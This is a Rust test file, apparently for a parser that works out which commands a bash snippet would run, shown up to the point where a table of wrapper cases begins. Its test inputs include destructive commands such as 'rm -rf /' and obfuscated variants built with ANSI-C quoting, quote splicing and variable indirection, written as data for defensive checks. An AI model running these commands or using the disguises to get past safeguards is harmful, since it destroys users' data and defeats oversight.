//! Table-driven checks of what the parser says a piece of bash would run.
//!
//! Every expectation comes from bash's semantics (word cases were checked against bash 5.2 with
//! `printf '[%s]' WORDS`), not from what the parser happened to print. Invocations render as in
//! `tests/common/mod.rs`: argv words (unknown parts as `‹what›`), ` @via>via`, ` d=DEPTH`, ` #fn`.
//!
//! `runs!` compares the plan's whole list of invocations (as a multiset: the plan does not
//! promise an order); `has!` only requires the listed ones to be present. Cases the parser gets
//! wrong today keep their correct expectation in `KNOWN_FAILING`, checked by an ignored test:
//! `cargo test --test parser_table -- --ignored` shows where the parser still falls short.

#![allow(clippy::unwrap_used)] // a test fails loudly on what it did not expect

mod common;

use common::{argv, code, dump, invocation, invocations, plan, redirect, word};
use guard::plan::{Invocation, IssueKind, Plan};

// ---------------------------------------------------------------------------------------------
// Case kinds
// ---------------------------------------------------------------------------------------------

trait Check {
    fn text(&self) -> &str;
    /// `Err` explains the mismatch.
    fn check(&self) -> Result<(), String>;
}

/// The invocations a text runs.
struct Runs {
    text: &'static str,
    want: &'static [&'static str],
    /// The whole list must match; otherwise the listed invocations must be among them.
    exact: bool,
}

macro_rules! runs {
    ($text:expr => [$($w:expr),* $(,)?]) => {
        Runs { text: $text, want: &[$($w),*], exact: true }
    };
}

macro_rules! has {
    ($text:expr => [$($w:expr),* $(,)?]) => {
        Runs { text: $text, want: &[$($w),*], exact: false }
    };
}

fn sorted(v: &[String]) -> Vec<String> {
    let mut v = v.to_vec();
    v.sort();
    v
}

/// Remove each wanted item from `got` once; what is left over in `want` is missing.
fn missing(got: &[String], want: &[&str]) -> Vec<String> {
    let mut pool: Vec<&String> = got.iter().collect();
    let mut out = Vec::new();
    for w in want {
        match pool.iter().position(|g| g.as_str() == *w) {
            Some(i) => {
                pool.remove(i);
            }
            None => out.push(w.to_string()),
        }
    }
    out
}

fn mismatch(text: &str, want: &dyn std::fmt::Debug, got: &dyn std::fmt::Debug, plan: &Plan) -> String {
    format!("input {text:?}\n  want {want:?}\n  got  {got:?}\n  plan:\n{}", dump(plan))
}

impl Check for Runs {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let got = invocations(&plan);
        let ok = if self.exact {
            let want: Vec<String> = self.want.iter().map(|s| s.to_string()).collect();
            sorted(&got) == sorted(&want)
        } else {
            missing(&got, self.want).is_empty()
        };
        if ok {
            Ok(())
        } else {
            Err(mismatch(self.text, &self.want, &got, &plan))
        }
    }
}

/// The first invocation whose rendered argv is `argv`.
fn find<'p>(plan: &'p Plan, text: &str, argv_want: &str) -> Result<&'p Invocation, String> {
    plan.invocations
        .iter()
        .find(|i| argv(i) == argv_want)
        .ok_or_else(|| format!("input {text:?}: no invocation with argv {argv_want:?}\n  plan:\n{}", dump(plan)))
}

/// The redirections one invocation carries, in order.
struct Redirs {
    text: &'static str,
    inv: &'static str,
    want: &'static [&'static str],
}

macro_rules! redir {
    ($text:expr, $inv:expr => [$($w:expr),* $(,)?]) => {
        Redirs { text: $text, inv: $inv, want: &[$($w),*] }
    };
}

impl Check for Redirs {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let inv = find(&plan, self.text, self.inv)?;
        let got: Vec<String> = inv.redirects.iter().map(redirect).collect();
        if got == self.want {
            Ok(())
        } else {
            Err(mismatch(self.text, &self.want, &got, &plan))
        }
    }
}

/// The code record of one invocation: `LANGUAGE SOURCE TEXT` (`arg`, `stdin`, `file`). A want
/// of `LANGUAGE SOURCE ~SNIPPET` only requires the rendered text to contain SNIPPET (for text
/// that describes where run-time code comes from, like `the output of curl …`).
struct CodeOf {
    text: &'static str,
    inv: &'static str,
    want: Option<&'static str>,
}

macro_rules! code {
    ($text:expr, $inv:expr => none) => {
        CodeOf { text: $text, inv: $inv, want: None }
    };
    ($text:expr, $inv:expr => $want:expr) => {
        CodeOf { text: $text, inv: $inv, want: Some($want) }
    };
}

impl Check for CodeOf {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let inv = find(&plan, self.text, self.inv)?;
        let got = code(inv);
        let ok = match (self.want, &got) {
            (None, None) => true,
            (Some(w), Some(g)) => match w.split_once(" ~") {
                Some((head, snippet)) => {
                    g.starts_with(&format!("{head} "))
                        && inv.code.as_ref().is_some_and(|c| c.text.display().contains(snippet))
                }
                None => w == g,
            },
            _ => false,
        };
        if ok {
            Ok(())
        } else {
            Err(mismatch(self.text, &self.want, &got, &plan))
        }
    }
}

/// Every pipeline: each stage's invocations (argv) joined by `, `, stages joined by ` | `
/// (or ` |& ` when stderr is piped too).
struct Pipes {
    text: &'static str,
    want: &'static [&'static str],
}

macro_rules! pipes {
    ($text:expr => [$($w:expr),* $(,)?]) => {
        Pipes { text: $text, want: &[$($w),*] }
    };
}

fn render_pipelines(plan: &Plan) -> Vec<String> {
    plan.pipelines
        .iter()
        .map(|p| {
            let mut out = String::new();
            for (i, stage) in p.stages.iter().enumerate() {
                if i > 0 {
                    out.push_str(if p.stderr_piped.get(i - 1).copied().unwrap_or(false) { " |& " } else { " | " });
                }
                let members: Vec<String> = stage.iter().map(|&id| argv(&plan.invocations[id])).collect();
                out.push_str(&members.join(", "));
            }
            out
        })
        .collect()
}

impl Check for Pipes {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let got = render_pipelines(&plan);
        let want: Vec<String> = self.want.iter().map(|s| s.to_string()).collect();
        if sorted(&got) == sorted(&want) {
            Ok(())
        } else {
            Err(mismatch(self.text, &self.want, &got, &plan))
        }
    }
}

/// What feeds an invocation's stdin (`Plan::upstream`) and reads its stdout (`downstream`).
struct Stream {
    text: &'static str,
    inv: &'static str,
    up: &'static [&'static str],
    down: &'static [&'static str],
}

macro_rules! stream {
    ($text:expr, $inv:expr => up [$($u:expr),* $(,)?] down [$($d:expr),* $(,)?]) => {
        Stream { text: $text, inv: $inv, up: &[$($u),*], down: &[$($d),*] }
    };
}

impl Check for Stream {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let inv = find(&plan, self.text, self.inv)?;
        let up: Vec<String> = plan.upstream(inv).into_iter().map(argv).collect();
        let down: Vec<String> = plan.downstream(inv).into_iter().map(argv).collect();
        let want_up: Vec<String> = self.up.iter().map(|s| s.to_string()).collect();
        let want_down: Vec<String> = self.down.iter().map(|s| s.to_string()).collect();
        if sorted(&up) == sorted(&want_up) && sorted(&down) == sorted(&want_down) {
            Ok(())
        } else {
            Err(mismatch(self.text, &(self.up, self.down), &(up, down), &plan))
        }
    }
}

/// Why one argv word is not fully known: the unknown part's source text, and a word the
/// reason must mention.
struct Dyn {
    text: &'static str,
    inv: &'static str,
    word: usize,
    what: &'static str,
    why: &'static str,
}

macro_rules! dynamic {
    ($text:expr, $inv:expr, $word:expr => $what:expr, $why:expr) => {
        Dyn { text: $text, inv: $inv, word: $word, what: $what, why: $why }
    };
}

impl Check for Dyn {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let inv = find(&plan, self.text, self.inv)?;
        let Some(w) = inv.argv().nth(self.word) else {
            return Err(mismatch(self.text, &self.word, &"no such word", &plan));
        };
        let got = w.unknown_reason();
        match got {
            Some((what, why)) if what == self.what && why.to_lowercase().contains(self.why) => Ok(()),
            _ => Err(mismatch(self.text, &(self.what, self.why), &got, &plan)),
        }
    }
}

/// Which argv words (by index) have the glob flag.
struct Glob {
    text: &'static str,
    inv: &'static str,
    want: &'static [usize],
}

macro_rules! glob {
    ($text:expr, $inv:expr => [$($w:expr),* $(,)?]) => {
        Glob { text: $text, inv: $inv, want: &[$($w),*] }
    };
}

impl Check for Glob {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let inv = find(&plan, self.text, self.inv)?;
        let got: Vec<usize> = inv.argv().enumerate().filter(|(_, w)| w.glob).map(|(i, _)| i).collect();
        if got == self.want {
            Ok(())
        } else {
            Err(mismatch(self.text, &self.want, &got, &plan))
        }
    }
}

/// Which kind of issue the plan must record.
#[derive(Debug, Clone, Copy)]
enum Want {
    /// `SyntaxError` or `Missing`.
    Syntax,
    TooDeep,
    TooLarge,
    TooMany,
    RunTime,
    /// No issue at all.
    Clean,
}

/// The issues of a plan, and argvs (ignoring `via`) still extracted despite them.
struct Issues {
    text: &'static str,
    want: Want,
    runs: &'static [&'static str],
}

macro_rules! issue {
    ($text:expr => $want:ident, [$($r:expr),* $(,)?]) => {
        Issues { text: $text, want: Want::$want, runs: &[$($r),*] }
    };
}

fn issue_ok(plan: &Plan, want: Want) -> bool {
    let any = |kinds: &[IssueKind]| plan.issues.iter().any(|i| kinds.contains(&i.kind));
    match want {
        Want::Syntax => any(&[IssueKind::SyntaxError, IssueKind::Missing]),
        Want::TooDeep => any(&[IssueKind::TooDeep]),
        Want::TooLarge => any(&[IssueKind::TooLarge]),
        Want::TooMany => any(&[IssueKind::TooMany]),
        Want::RunTime => any(&[IssueKind::RunTime]),
        Want::Clean => plan.issues.is_empty(),
    }
}

fn check_issues(text: &str, want: Want, runs: &[&str]) -> Result<(), String> {
    let plan = plan(text);
    let got: Vec<String> = plan.invocations.iter().map(argv).collect();
    let lacking = missing(&got, runs);
    if issue_ok(&plan, want) && lacking.is_empty() {
        Ok(())
    } else {
        let short: String = text.chars().take(120).collect();
        let kinds: Vec<IssueKind> = plan.issues.iter().map(|i| i.kind).collect();
        Err(format!(
            "input {short:?}\n  want {want:?} and runs {runs:?}\n  got issues {kinds:?}, missing runs {lacking:?}"
        ))
    }
}

impl Check for Issues {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        check_issues(self.text, self.want, self.runs)
    }
}

/// The invocation an invocation was unwrapped from or nested in (`parent`), by argv.
struct Parent {
    text: &'static str,
    inv: &'static str,
    parent: Option<&'static str>,
}

macro_rules! parent {
    ($text:expr, $inv:expr => none) => {
        Parent { text: $text, inv: $inv, parent: None }
    };
    ($text:expr, $inv:expr => $p:expr) => {
        Parent { text: $text, inv: $inv, parent: Some($p) }
    };
}

impl Check for Parent {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let inv = find(&plan, self.text, self.inv)?;
        let got = inv.parent.map(|p| argv(&plan.invocations[p]));
        if got.as_deref() == self.parent {
            Ok(())
        } else {
            Err(mismatch(self.text, &self.parent, &got, &plan))
        }
    }
}

/// The `NAME=value` assignments one invocation gets.
struct Assigns {
    text: &'static str,
    inv: &'static str,
    want: &'static [&'static str],
}

macro_rules! assigns {
    ($text:expr, $inv:expr => [$($w:expr),* $(,)?]) => {
        Assigns { text: $text, inv: $inv, want: &[$($w),*] }
    };
}

impl Check for Assigns {
    fn text(&self) -> &str {
        self.text
    }
    fn check(&self) -> Result<(), String> {
        let plan = plan(self.text);
        let inv = find(&plan, self.text, self.inv)?;
        let got: Vec<String> = inv.assignments.iter().map(|a| format!("{}={}", a.name, word(&a.value))).collect();
        if got == self.want {
            Ok(())
        } else {
            Err(mismatch(self.text, &self.want, &got, &plan))
        }
    }
}

/// Run a table and report every failing case at once.
fn run_table<T: Check>(name: &str, cases: &[T]) {
    let failures: Vec<String> = cases.iter().filter_map(|c| c.check().err()).collect();
    assert!(
        failures.is_empty(),
        "{} of {} {name} cases failed:\n\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Compound commands
// ---------------------------------------------------------------------------------------------

const COMPOUND: &[Runs] = &[
    runs!("rm a; rm b" => ["rm a", "rm b"]),
    runs!("rm a;rm b;rm c" => ["rm a", "rm b", "rm c"]),
    runs!("rm a && rm b" => ["rm a", "rm b"]),
    runs!("rm a || rm b" => ["rm a", "rm b"]),
    runs!("rm a\nrm b" => ["rm a", "rm b"]),
    runs!("rm a\n\nrm b # rm c\n# rm d" => ["rm a", "rm b"]),
    runs!("echo '# not a comment' # rm x" => ["echo '# not a comment'"]),
    runs!("echo a#b" => ["echo a#b"]),
    runs!("rm a | rm b" => ["rm a", "rm b"]),
    runs!("rm a |& rm b" => ["rm a", "rm b"]),
    runs!("rm a & rm b" => ["rm a @bg", "rm b"]),
    runs!("rm a &" => ["rm a @bg"]),
    runs!("rm x &>/dev/null &" => ["rm x @bg"]),
    runs!("sleep 1 && rm x &" => ["sleep 1 @bg", "rm x @bg"]),
    runs!("rm a && rm b || rm c &" => ["rm a @bg", "rm b @bg", "rm c @bg"]),
    runs!("rm a & rm b & rm c" => ["rm a @bg", "rm b @bg", "rm c"]),
    runs!("(rm a; rm b)" => ["rm a @subshell", "rm b @subshell"]),
    runs!("( (rm a) )" => ["rm a @subshell>subshell"]),
    runs!("(rm a) &" => ["rm a @bg>subshell"]),
    runs!("{ rm a; rm b; }" => ["rm a", "rm b"]),
    runs!("{ rm a; } &" => ["rm a @bg"]),
    runs!("true && { rm a; rm b; }" => ["true", "rm a", "rm b"]),
    runs!("if test -f x; then rm x; fi" => ["test -f x @branch", "rm x @branch"]),
    runs!("if a; then b; elif c; then d; else e; fi" => ["a @branch", "b @branch", "c @branch", "d @branch", "e @branch"]),
    runs!("if a; then if b; then c; fi; fi" => ["a @branch", "b @branch>branch", "c @branch>branch"]),
    runs!("if rm x; then :; fi" => ["rm x @branch", ": @branch"]),
    runs!("if ! rm x; then ls; fi" => ["rm x @branch", "ls @branch"]),
    runs!("case $x in a) rm a;; b|c) rm b;; *) rm c;; esac" => ["rm a @branch", "rm b @branch", "rm c @branch"]),
    runs!("case x in a) rm a;& b) rm b;;& *) rm c;; esac" => ["rm a @branch", "rm b @branch", "rm c @branch"]),
    runs!("case x in\n  a)\n    rm a\n    ;;\nesac" => ["rm a @branch"]),
    runs!("for i in a b; do rm $i; done" => ["rm a @loop", "rm b @loop"]),
    runs!("for i in $(ls); do rm $i; done" => ["ls @loop>sub", "rm ‹$i› @loop"]),
    runs!("for i in *.txt; do rm $i; done" => ["rm ‹$i› @loop"]),
    runs!("for d in /; do rm -rf $d; done" => ["rm -rf / @loop"]),
    runs!(r#"for f in *.txt; do rm "$f"; done"# => ["rm ‹$f› @loop"]),
    runs!("for i in 1 2; do rm x$i; done" => ["rm x1 @loop", "rm x2 @loop"]),
    runs!("for i in {1..20}; do rm x$i; done" => ["rm x‹$i› @loop"]),
    runs!("for ((i=0; i<3; i++)); do rm x; done" => ["rm x @loop"]),
    runs!("while true; do rm x; done" => ["true @loop", "rm x @loop"]),
    runs!("until false; do rm x; done" => ["false @loop", "rm x @loop"]),
    runs!(r#"while read -r l; do rm "$l"; done < list"# => ["read -r l @loop", "rm ‹$l› @loop"]),
    runs!("for i in 1; do for j in 2; do rm x; done; done" => ["rm x @loop>loop"]),
    runs!("rm x | while read l; do rm $l; done" => ["rm x", "read l @loop", "rm ‹$l› @loop"]),
    runs!("while true; do if a; then break; fi; done" => ["true @loop", "a @loop>branch", "break @loop>branch"]),
    runs!("f() { rm x; }; f" => ["rm x @fn:f", "f #fn"]),
    runs!("function f { rm x; }; f" => ["rm x @fn:f", "f #fn"]),
    runs!("function f() { rm x; }; f a b" => ["rm x @fn:f", "f a b #fn"]),
    runs!("f() { rm x; }" => ["rm x @fn:f"]),
    runs!("f() ( rm x ); f" => ["rm x @fn:f>subshell", "f #fn"]),
    runs!("f() {\n  rm a\n  rm b\n}\nf" => ["rm a @fn:f", "rm b @fn:f", "f #fn"]),
    // Called before it is defined: bash looks `f` up as a program.
    runs!("f; f() { rm x; }" => ["f", "rm x @fn:f"]),
    runs!("f() { rm x; }; f & g" => ["rm x @fn:f", "f @bg #fn", "g"]),
    runs!("f() { rm x; }; if c; then f; fi" => ["rm x @fn:f", "c @branch", "f @branch #fn"]),
    // `time` is a keyword; it runs the function.
    runs!("f() { rm x; }; time f" => ["rm x @fn:f", "time f", "f @wrap:time #fn"]),
    runs!("time rm x" => ["time rm x", "rm x @wrap:time"]),
    runs!("time -p rm x" => ["time -p rm x", "rm x @wrap:time"]),
    runs!("! rm x" => ["rm x"]),
    runs!("! rm x | grep y" => ["rm x", "grep y"]),
    runs!("(( x = $(rm y) ))" => ["rm y @sub"]),
    runs!("(( $(rm y) > 1 )) && ls" => ["rm y @sub", "ls"]),
    runs!("echo $(( $(rm y) + 1 ))" => ["echo '‹$(( $(rm y) + 1 ))›'", "rm y @sub"]),
    runs!("for ((i=$(rm x); i<3; i++)); do :; done" => ["rm x @loop>sub", ": @loop"]),
    runs!("echo $(rm x)" => ["echo '‹$(rm x)›'", "rm x @sub"]),
    runs!("echo `rm x`" => ["echo '‹`rm x`›'", "rm x @sub"]),
    runs!(r#"echo "$(rm x)""# => ["echo '‹$(rm x)›'", "rm x @sub"]),
    runs!(r#"echo "$(rm a)" "$(rm b)""# => ["echo '‹$(rm a)›' '‹$(rm b)›'", "rm a @sub", "rm b @sub"]),
    runs!("echo $(echo $(rm x))" => ["echo '‹$(echo $(rm x))›'", "echo '‹$(rm x)›' @sub", "rm x @sub>sub"]),
    runs!("$(rm x)" => ["'‹$(rm x)›'", "rm x @sub"]),
    runs!("$(echo rm) -rf /" => ["'‹$(echo rm)›' -rf /", "echo rm @sub"]),
    runs!("x=$(rm y)" => ["rm y @sub"]),
    runs!("x=`rm y`" => ["rm y @sub"]),
    runs!("x=$(rm y) ls" => ["ls", "rm y @sub"]),
    runs!("export X=$(rm y)" => ["export 'X=‹$(rm y)›'", "rm y @sub"]),
    runs!("f() { local x=$(rm y); }" => ["local 'x=‹$(rm y)›' @fn:f", "rm y @fn:f>sub"]),
    runs!("cat <(rm x)" => ["cat '‹<(rm x)›'", "rm x @proc"]),
    runs!("tee >(rm x)" => ["tee '‹>(rm x)›'", "rm x @proc"]),
    runs!("diff <(ls a) <(ls b)" => ["diff '‹<(ls a)›' '‹<(ls b)›'", "ls a @proc", "ls b @proc"]),
    runs!("[[ -n $(rm x) ]]" => ["rm x @sub"]),
    runs!("test -d d || mkdir d" => ["test -d d", "mkdir d"]),
    runs!("echo x > $(rm y)" => ["echo x", "rm y @sub"]),
    runs!("for i in $(ls); do rm $i; done" => ["ls @loop>sub", "rm ‹$i› @loop"]),
    runs!("a=1 b=2" => []),
    runs!("" => []),
    runs!("   \n\t\n" => []),
    runs!("# rm -rf /" => []),
    runs!(":" => [":"]),
    runs!("cd /tmp && rm -rf *" => ["cd /tmp", "rm -rf * cwd=/tmp"]),
    runs!("python -c 'import os; os.system(\"rm x\")'" => [r#"python -c 'import os; os.system("rm x")'"#, "rm x @code:python d=1"]),
    runs!("echo hi > >(rm x)" => ["echo hi", "rm x @proc"]),
    has!(r#"[ "$(rm y)" ] && rm x"# => ["rm y @sub", "rm x"]),
    runs!("echo $( (rm x) )" => ["echo '‹$( (rm x) )›'", "rm x @sub>subshell"]),
    runs!(r#"echo "`rm x`""# => ["echo '‹`rm x`›'", "rm x @sub"]),
    runs!("a=rm; f() { $a x; }; f" => ["rm x @fn:f", "f #fn"]),
    runs!("while read -r l; do echo $l; done <<< 'rm x'" => ["read -r l @loop", "echo ‹$l› @loop"]),
    runs!("python3 -c 'import os' && perl -e 'print 1'" => ["python3 -c 'import os'", "perl -e 'print 1'"]),
];

// ---------------------------------------------------------------------------------------------
// Word resolution (checked against bash 5.2)
// ---------------------------------------------------------------------------------------------

const WORDS: &[Runs] = &[
    // Line continuations
    runs!("r\\\nm -rf /" => ["rm -rf /"]),
    runs!("rm \\\n -rf /" => ["rm -rf /"]),
    runs!("rm -rf \\\n/" => ["rm -rf /"]),
    runs!("echo \"a\\\nb\"" => ["echo ab"]),
    runs!("echo 'a\\\nb'" => [r"echo 'a\\\nb'"]),
    // ANSI-C quoting
    runs!(r"$'\x72\x6d' -rf /" => ["rm -rf /"]),
    runs!(r"$'\162\155' x" => ["rm x"]),
    runs!(r"$'\x72'm x" => ["rm x"]),
    runs!(r"r$'m' x" => ["rm x"]),
    runs!(r"$'rm' x" => ["rm x"]),
    runs!(r"echo $'a\nb'" => [r"echo 'a\nb'"]),
    runs!(r"echo $'a\tb'" => [r"echo 'a\tb'"]),
    // Past ASCII, `\u` is written in the locale's encoding (`\u00E9` as is in the C locale).
    runs!(r"echo $'\u00e9'" => [r"echo '‹$\'\\u00e9\'›'"]),
    runs!(r"echo $'\u0041'" => ["echo A"]),
    runs!(r"echo $'\''" => [r"echo '\''"]),
    runs!(r"echo $'it\'s'" => [r"echo 'it\'s'"]),
    runs!(r"echo $'\101'" => ["echo A"]),
    runs!(r"echo $'a\\b'" => [r"echo 'a\\b'"]),
    runs!(r"echo $'\e[0m'" => [r"echo '\x1b[0m'"]),
    // Quote concatenation and backslashes
    runs!("r''m x" => ["rm x"]),
    runs!(r#""r"m x"# => ["rm x"]),
    runs!(r#"r""m x"# => ["rm x"]),
    runs!(r"\rm x" => ["rm x"]),
    runs!(r"e\c\h\o a" => ["echo a"]),
    runs!("'rm' x" => ["rm x"]),
    runs!(r#""rm" "-rf" '/'"# => ["rm -rf /"]),
    runs!(r#"r'm' -r"f" /"# => ["rm -rf /"]),
    runs!("/bin/rm -rf /" => ["/bin/rm -rf /"]),
    runs!(r#"echo "a b""# => ["echo 'a b'"]),
    runs!(r"echo a\ b" => ["echo 'a b'"]),
    runs!("echo 'a  b'   c" => ["echo 'a  b' c"]),
    runs!(r#"echo "it's""# => [r"echo 'it\'s'"]),
    runs!(r"echo 'it'\''s'" => [r"echo 'it\'s'"]),
    runs!(r#"echo "a\"b""# => [r#"echo 'a"b'"#]),
    runs!(r#"echo "a\b""# => [r"echo 'a\\b'"]),
    runs!(r"echo 'a\b'" => [r"echo 'a\\b'"]),
    runs!(r"echo a\\b" => [r"echo 'a\\b'"]),
    runs!(r#"echo "\\""# => [r"echo '\\'"]),
    runs!(r"echo \'" => [r"echo '\''"]),
    runs!(r#"echo "a'b" 'a"b'"# => [r#"echo 'a\'b' 'a"b'"#]),
    runs!(r#"echo "\$HOME" '$HOME' \$HOME"# => ["echo $HOME $HOME $HOME"]),
    runs!(r#"echo """# => ["echo ''"]),
    runs!("echo '' x" => ["echo '' x"]),
    runs!(r#"echo """""# => ["echo ''"]),
    // Variables from the environment
    runs!("echo $HOME" => ["echo /home/u"]),
    runs!("echo ${HOME}" => ["echo /home/u"]),
    runs!(r#"echo "$HOME/a b""# => ["echo '/home/u/a b'"]),
    runs!(r#"echo "${HOME}x" a"$HOME"b"# => ["echo /home/ux a/home/ub"]),
    runs!(r#"echo "$HOME"'$HOME'"# => ["echo /home/u$HOME"]),
    runs!("echo $PWD/x" => ["echo /work/proj/x"]),
    runs!("$HOME/bin/tool --x" => ["/home/u/bin/tool --x"]),
    runs!("rm -rf $HOME/" => ["rm -rf /home/u/"]),
    runs!("echo $HOMEx" => ["echo ‹$HOMEx›"]),
    runs!("echo $HOME_DIR" => ["echo ‹$HOME_DIR›"]),
    runs!("cd /tmp; $PWD/x" => ["cd /tmp", "/tmp/x cwd=/tmp|/work/proj"]),
    runs!("cd sub && $PWD/x" => ["cd sub", "/work/proj/sub/x cwd=/work/proj/sub"]),
    runs!("cd; echo $PWD" => ["cd", "echo /home/u cwd=/home/u|/work/proj"]),
    runs!(r#"cd "$D"; echo $PWD"# => ["cd ‹$D›", "echo ‹$PWD› cwd=.|?"]),
    runs!("read x; echo $x" => ["read x", "echo ‹$x›"]),
    // Tilde expansion
    runs!("echo ~" => ["echo /home/u"]),
    runs!("echo ~/x" => ["echo /home/u/x"]),
    runs!("echo ~root" => ["echo /root"]),
    runs!("echo ~bob/x" => ["echo /srv/bob/x"]),
    runs!("echo ~+" => ["echo /work/proj"]),
    runs!("echo ~+/x" => ["echo /work/proj/x"]),
    runs!(r#"echo "~" \~ '~'/x"# => ["echo ~ ~ ~/x"]),
    runs!("echo a~ x~/y" => ["echo a~ x~/y"]),
    runs!("echo ~carol" => ["echo ‹~carol›"]),
    runs!("rm -rf ~ /" => ["rm -rf /home/u /"]),
    runs!("cd /tmp && ls ~+" => ["cd /tmp", "ls /tmp cwd=/tmp"]),
    // Brace expansion
    runs!("echo {a,b}" => ["echo a b"]),
    runs!("ls /{etc,usr}" => ["ls /etc /usr"]),
    runs!("echo {a,b{c,d}}" => ["echo a bc bd"]),
    runs!("echo {1..3}" => ["echo 1 2 3"]),
    runs!("echo {a..c}" => ["echo a b c"]),
    runs!("echo {01..03}" => ["echo 01 02 03"]),
    runs!("echo {3..1}" => ["echo 3 2 1"]),
    runs!("echo {1..10..3}" => ["echo 1 4 7 10"]),
    runs!("echo {a..c..2}" => ["echo a c"]),
    runs!("echo x{a,b}y" => ["echo xay xby"]),
    runs!("echo {a,b}{1,2}" => ["echo a1 a2 b1 b2"]),
    runs!("echo {a}" => ["echo {a}"]),
    runs!(r#"echo "{a,b}""# => ["echo {a,b}"]),
    runs!("echo '{a,b}'" => ["echo {a,b}"]),
    runs!(r"echo \{a,b\}" => ["echo {a,b}"]),
    runs!("echo {,a}" => ["echo a"]),
    runs!("rm -rf /{,usr}" => ["rm -rf / /usr"]),
    runs!(r#"echo {a,"b c"}"# => ["echo a 'b c'"]),
    runs!("echo ~/{a,b}" => ["echo /home/u/a /home/u/b"]),
    runs!("echo {~,~root}" => ["echo /home/u /root"]),
    runs!("echo {$HOME,x}" => ["echo /home/u x"]),
    runs!("echo {a,b a,b}" => ["echo {a,b a,b}"]),
    runs!("echo {a..}" => ["echo {a..}"]),
    // Variables assigned earlier in the text
    runs!("a=rm; $a -rf /" => ["rm -rf /"]),
    runs!("a=rm\n$a -rf /" => ["rm -rf /"]),
    runs!(r#"a="rm -rf"; $a /"# => ["rm -rf /"]),
    runs!(r#"a="rm -rf"; "$a" /"# => ["'rm -rf' /"]),
    runs!(r#"a='rm  -rf'; echo "$a""# => ["echo 'rm  -rf'"]),
    runs!("a=rm; ${a} x" => ["rm x"]),
    runs!("a=r; ${a}m x" => ["rm x"]),
    runs!("a=rm; b=$a; $b x" => ["rm x"]),
    runs!("a=1; a+=2; echo $a" => ["echo 12"]),
    runs!("a=rm b=x; $a $b" => ["rm x"]),
    runs!("a=rm; a=ls; $a" => ["ls"]),
    runs!("a=~/x; echo $a" => ["echo /home/u/x"]),
    runs!("export a=rm; $a x" => ["export a=rm", "rm x"]),
    runs!("declare a=rm; $a x" => ["declare a=rm", "rm x"]),
    runs!("a=rm; unset a; $a x" => ["unset a", "x"]),
    runs!("a=; $a rm x" => ["rm x"]),
    runs!(r#"a=; echo "$a" x"# => ["echo '' x"]),
    runs!("x='*'; echo $x" => ["echo *"]),
    // A prefix assignment applies to the command, not to its own words.
    runs!("a=rm $a x" => ["‹$a› x"]),
    runs!("a=rm ls; $a x" => ["ls", "‹$a› x"]),
    // Conditional assignments are never guessed
    runs!("if true; then a=rm; fi; $a x" => ["true @branch", "‹$a› x"]),
    runs!("a=ls; if c; then a=rm; fi; $a x" => ["c @branch", "‹$a› x"]),
    runs!("case y in y) a=rm;; esac; $a x" => ["‹$a› x"]),
    runs!("for i in 1; do a=rm; done; $a x" => ["‹$a› x"]),
    runs!("while c; do a=rm; done; $a x" => ["c @loop", "‹$a› x"]),
    runs!("(a=rm); $a x" => ["‹$a› x"]),
    runs!("echo | a=rm; $a x" => ["echo", "‹$a› x"]),
    runs!("true && a=rm; $a x" => ["true", "‹$a› x"]),
    runs!("false || a=rm; $a x" => ["false", "‹$a› x"]),
    runs!("a=rm & $a x" => ["‹$a› x"]),
    // Unknown values keep what is known around them
    runs!("echo $UNSETVAR" => ["echo ‹$UNSETVAR›"]),
    runs!(r#"rm -rf "$DIR"/*"# => ["rm -rf ‹$DIR›/*"]),
    runs!("rm -rf $DIR/*" => ["rm -rf ‹$DIR›/*"]),
    runs!(r#"rm -rf "${DIR}/x""# => ["rm -rf ‹${DIR}›/x"]),
    runs!("rm -rf /tmp/$X.bak" => ["rm -rf /tmp/‹$X›.bak"]),
    runs!("$CMD x" => ["‹$CMD› x"]),
    runs!("echo $1 $#" => ["echo ‹$1› ‹$#›"]),
    runs!(r#"echo "$@""# => ["echo ‹$@›"]),
    runs!("a=$(date); echo $a" => ["echo ‹$a›", "date @sub"]),
    runs!("HOME=/tmp; rm -rf ~" => ["rm -rf /tmp"]),
    runs!("HOME=/x rm -rf ~" => ["rm -rf /home/u"]),
    runs!(r#"a=(rm -rf /); "${a[@]}""# => ["‹${a[@]}›"]),
    // Parameter operators with literal operands are computed on known values (checked with bash).
    runs!("x=victim; rm ${x/ic/ic}" => ["rm victim"]),
    runs!("x=rm; ${x:-ls} -rf /" => ["rm -rf /"]),
    runs!("x=aXbXc; echo ${x/X/-} ${x//X/-} ${x/#a/A} ${x/%c/C} ${x/#X/-} ${x#aX} ${x%%Xc} ${x^^} ${x^} ${x,,} ${x:1} ${x:1:2} ${x:9}" => [
        "echo a-bXc a-b-c AXbXc aXbXC aXbXc bXc aXb AXBXC AXbXc axbxc XbXc Xb",
    ]),
    runs!("x='a b'; printf '[%s]' ${x/a/c d}" => ["printf [%s] c d b"]),
    runs!("echo ${HOME%/u}" => ["echo /home"]),
    // Globs, expansions and `&` in the operands, and `${x-…}` of an empty (perhaps unset) value,
    // are left to run time.
    runs!("x=abc; echo ${x/b/*} ${x/?/z} ${x/b/&} ${x/b/$HOME}" => ["echo ‹${x/b/*}› ‹${x/?/z}› ‹${x/b/&}› ‹${x/b/$HOME}›"]),
    runs!(r#"x=; echo "${x:-def}" "${x:+alt}" "${x-d}""# => ["echo def '' ‹${x-d}›"]),
    runs!("echo ${X/a/b}" => ["echo ‹${X/a/b}›"]),
];

// ---------------------------------------------------------------------------------------------
// Wrappers
// ---------------------------------------------------------------------------------------------

const WRAPPERS: &[Runs] = &[
